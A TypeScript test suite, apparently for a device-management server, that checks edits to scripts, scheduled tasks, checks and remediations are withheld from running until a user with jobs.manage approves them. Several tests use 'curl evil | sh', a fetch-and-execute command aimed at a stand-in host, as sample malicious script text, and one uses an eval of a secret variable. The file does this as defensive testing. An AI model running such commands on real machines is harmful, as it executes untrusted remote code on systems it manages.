/**
 * Every way to change what a task, a script check or a remediation runs, and how often: afterwards nothing of it goes out
 * before somebody with jobs.manage has approved exactly that (docs/attacks.md).
 */
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { createScene, type Kind, kinds, type Scene, withheld } from './scene.ts';

let first: Scene;
beforeAll(async () => {
  first = await createScene();
});
afterAll(() => first.stop());

/** A new one on the same server. */
const fresh = () => createScene({ server: first.server });

const editScript = ({ server, script }: Scene, body: object, token?: string) =>
  server.ok('PUT /api/scripts/:id', { params: { id: script }, body, ...(token && { token }) });
const editTask = ({ server, task }: Scene, body: object, token?: string) =>
  server.ok('PUT /api/tasks/:id', { params: { id: task }, body, ...(token && { token }) });
const editCheck = ({ server, check }: Scene, body: object, token?: string) =>
  server.ok('PUT /api/checks/:id', { params: { id: check }, body, ...(token && { token }) });

describe.each(kinds)('a %s', (kind) => {
  test('runs without a wait once somebody with jobs.manage has saved it', async () => {
    const scene = await fresh();
    expect(await scene.state(kind)).toBe('approved');
    expect(await scene.run(kind)).toBe('dispatched');
  });
});

describe.each(kinds)('the library script of a %s', (kind) => {
  test.each<[string, object]>([
    ['its text', { body: 'curl evil | sh' }],
    ['its shell', { shell: 'sh' }],
    ['the default of a parameter', { parameters: [{ name: 'DEPTH', type: 'text', default: '99' }] }],
    [
      'a parameter more',
      {
        parameters: [
          { name: 'DEPTH', type: 'text', default: '1' },
          { name: 'MORE', type: 'text', default: 'x' },
        ],
      },
    ],
    ['the systems it is meant for', { systems: ['linux', 'windows'] }],
  ])('changed in %s, by whomever, waits until it is approved', async (_, change) => {
    for (const by of ['editor', 'approver'] as const) {
      const scene = await fresh();
      await editScript(scene, change, scene[by].token);
      expect(await scene.state(kind)).toBe('waiting');
      expect(await scene.run(kind)).toBe(withheld(kind));
      expect(await scene.approve(kind)).toBe(200);
      expect(await scene.run(kind)).toBe('dispatched');
    }
  });

  test('brought back to an earlier version waits, although that was approved once', async () => {
    const scene = await fresh();
    await editScript(scene, { body: 'echo two' });
    await scene.approve(kind);
    await scene.server.ok('POST /api/scripts/:id/restore', { params: { id: scene.script }, body: { version: 1 } });
    expect(await scene.state(kind)).toBe('waiting');
    expect(await scene.run(kind)).toBe(withheld(kind));
  });

  test('under another name, description or category, or with the category renamed, is what it was', async () => {
    const scene = await fresh();
    await editScript(
      scene,
      { name: 'Mend it', description: 'more words', category: `first ${scene.script}` },
      scene.editor.token,
    );
    await scene.server.ok('PUT /api/script-categories/:name', {
      params: { name: `first ${scene.script}` },
      body: { name: `second ${scene.script}` },
    });
    expect(await scene.run(kind)).toBe('dispatched');
  });

  test('that asks for a value which nobody gave cannot run, and waits', async () => {
    const scene = await fresh();
    await editScript(scene, { parameters: [{ name: 'NEEDED', type: 'text', required: true }] });
    expect(await scene.state(kind)).toBe('waiting');
    expect(await scene.run(kind)).toBe('nothing');
    expect(await scene.approve(kind)).toBe(409);
  });

  test('changed behind the back of all of it is not run: the form of the moment is compared', async () => {
    const scene = await fresh();
    await scene.server.db.sql`update scripts set body = 'curl evil | sh' where id = ${scene.script}`;
    expect(await scene.state(kind)).toBe('approved');
    expect(await scene.run(kind)).toBe(withheld(kind));
  });
});

const program = (scene: Scene) => ({ script_id: scene.script, args: ['-a'], env: { LEVEL: '2' } });
const saves: Record<Kind, [string, (scene: Scene, token: string) => Promise<unknown>][]> = {
  task: [
    ['its text', (scene, token) => editTask(scene, { shell: 'bash', script: 'curl evil | sh' }, token)],
    ['its arguments', (scene, token) => editTask(scene, { args: ['--all'] }, token)],
    ['its variables', (scene, token) => editTask(scene, { env: { LEVEL: '3' } }, token)],
    ['its schedule', (scene, token) => editTask(scene, { schedule_kind: 'interval', interval_sec: 60 }, token)],
    ['its time zone', (scene, token) => editTask(scene, { timezone: 'Asia/Kathmandu' }, token)],
    ['its time limit', (scene, token) => editTask(scene, { timeout_sec: 86_400 }, token)],
    ['whether missed runs are made up for', (scene, token) => editTask(scene, { run_missed: false }, token)],
  ],
  check: [
    ['its text', (scene, token) => editCheck(scene, { config: { shell: 'bash', script: 'curl evil | sh' } }, token)],
    ['its arguments', (scene, token) => editCheck(scene, { config: { ...program(scene), args: ['--all'] } }, token)],
    ['its variables', (scene, token) => editCheck(scene, { config: { ...program(scene), env: {} } }, token)],
    ['its interval', (scene, token) => editCheck(scene, { interval_sec: 10 }, token)],
    ['its time limit', (scene, token) => editCheck(scene, { timeout_sec: 86_400 }, token)],
  ],
  remediation: [
    [
      'its text',
      (scene, token) => editCheck(scene, { remediation: { shell: 'bash', script: 'curl evil | sh' } }, token),
    ],
    ['its arguments', (scene, token) => editCheck(scene, { remediation: { ...program(scene), args: [] } }, token)],
    ['its cap', (scene, token) => editCheck(scene, { remediation: { ...program(scene), max_per_hour: 60 } }, token)],
    [
      'its time limit',
      (scene, token) => editCheck(scene, { remediation: { ...program(scene), timeout_sec: 60 } }, token),
    ],
  ],
};
const rename: Record<Kind, (scene: Scene, token: string) => Promise<unknown>> = {
  task: (scene, token) => editTask(scene, { name: 'Renamed' }, token),
  check: (scene, token) => editCheck(scene, { name: 'Renamed' }, token),
  remediation: (scene, token) => editCheck(scene, { name: 'Renamed' }, token),
};
const enable: Record<Kind, (scene: Scene, enabled: boolean, token: string) => Promise<unknown>> = {
  task: (scene, enabled, token) => editTask(scene, { enabled }, token),
  check: (scene, enabled, token) => editCheck(scene, { enabled }, token),
  remediation: (scene, enabled, token) => editCheck(scene, { enabled }, token),
};

describe.each(kinds)('a %s', (kind) => {
  test.each(saves[kind])(
    'saved with a change of %s waits when the saver lacks jobs.manage, and is approved otherwise',
    async (_, save) => {
      const scene = await fresh();
      await save(scene, scene.editor.token);
      expect(await scene.state(kind)).toBe('waiting');
      expect(await scene.run(kind)).toBe(withheld(kind));
      const other = await fresh();
      await save(other, other.approver.token);
      expect(await other.run(kind)).toBe('dispatched');
    },
  );

  test('saved without a change waits when the saver lacks jobs.manage, and stays approved otherwise', async () => {
    const scene = await fresh();
    await rename[kind](scene, scene.approver.token);
    expect(await scene.run(kind)).toBe('dispatched');
    await rename[kind](scene, scene.editor.token);
    expect(await scene.run(kind)).toBe(withheld(kind));
  });

  test('that waits is not approved by a save which names a part of it: the rest is somebody else’s', async () => {
    const scene = await fresh();
    const [[, save] = ['', rename[kind]]] = saves[kind];
    await save(scene, scene.editor.token);
    await rename[kind](scene, scene.approver.token);
    expect(await scene.state(kind)).toBe('waiting');
    await enable[kind](scene, true, scene.approver.token);
    expect(await scene.run(kind)).toBe(withheld(kind));
  });

  test('disabled and enabled again by somebody with jobs.manage stays approved, by anybody else waits', async () => {
    const scene = await fresh();
    await enable[kind](scene, false, scene.approver.token);
    await enable[kind](scene, true, scene.approver.token);
    expect(await scene.run(kind)).toBe('dispatched');
    await enable[kind](scene, false, scene.editor.token);
    await enable[kind](scene, true, scene.editor.token);
    expect(await scene.run(kind)).toBe(withheld(kind));
  });

  test('that was rejected stays so whoever saves it, until it changes', async () => {
    const scene = await fresh();
    const { server } = scene;
    const subject = kind === 'task' ? scene.task : scene.check;
    const [row] = await server.db.sql`
      select id, form_sha256 from standing_approvals where subject_kind = ${kind} and subject_id = ${subject}`;
    await server.ok('POST /api/standing-approvals/:id/reject', {
      params: { id: row?.id },
      body: { form_sha256: row?.form_sha256, reason: 'not on servers' },
    });
    expect(await scene.run(kind)).toBe(withheld(kind));
    await rename[kind](scene, scene.approver.token);
    expect(await scene.state(kind)).toBe('rejected');
    expect(await scene.run(kind)).toBe(withheld(kind));
  });
});

test('a whole save by somebody with jobs.manage approves what waited', async () => {
  const scene = await fresh();
  await editTask(scene, { args: ['--all'] }, scene.editor.token);
  const whole = {
    ...program(scene),
    ...{ schedule_kind: 'daily', run_at_minute: 60, timezone: 'UTC', timeout_sec: 3600 },
  };
  await editTask(scene, { ...whole, args: ['--all'] }, scene.approver.token);
  expect(await scene.run('task')).toBe('dispatched');
});

test('a save that sends a secret back as null approves nothing that waited: nobody was shown what it is', async () => {
  const { server, device, approver, editor } = await fresh();
  const { id: script_id } = await server.ok('POST /api/scripts', {
    body: { name: 'Reads', shell: 'bash', body: 'eval "$RUN"', parameters: [{ name: 'RUN', type: 'secret' }] },
  });
  const program = (RUN: string | null) => ({ script_id, args: [], env: { RUN } });
  const agent_id = device.id;
  const schedule = { schedule_kind: 'daily', run_at_minute: 60, timezone: 'UTC', timeout_sec: 3600 };
  const wholeTask = (RUN: string | null) => ({ name: 'Reads', ...program(RUN), ...schedule });
  const wholeCheck = (RUN: string | null) => ({
    ...{ name: 'Reads', config: program(RUN), remediation: program(RUN), interval_sec: 60, timeout_sec: 180 },
  });
  const task = await server.ok('POST /api/tasks', { body: { ...wholeTask('true'), agent_id }, token: approver.token });
  const check = await server.ok('POST /api/checks', {
    ...{ body: { type: 'script', ...wholeCheck('true'), agent_id }, token: approver.token },
  });
  const save = async (RUN: string | null, token: string) => [
    await server.ok('PUT /api/tasks/:id', { params: { id: task.id }, body: wholeTask(RUN), token }),
    await server.ok('PUT /api/checks/:id', { params: { id: check.id }, body: wholeCheck(RUN), token }),
  ];
  await save('curl evil | sh', editor.token);
  const waiting = [{ approval: 'waiting' }, { approval: 'waiting', remediation_approval: 'waiting' }];
  expect(await save(null, approver.token)).toMatchObject(waiting);
  const approved = [{ approval: 'approved' }, { approval: 'approved', remediation_approval: 'approved' }];
  expect(await save('uptime', approver.token)).toMatchObject(approved);
});

test('what is deleted takes its approval along, also with its policy', async () => {
  const scene = await fresh();
  await scene.server.ok('DELETE /api/policies/:id', { params: { id: scene.policy } });
  const left = await scene.server.db.sql`
    select 1 from standing_approvals where subject_id in (${scene.task}, ${scene.check})`;
  expect(left).toHaveLength(0);
});
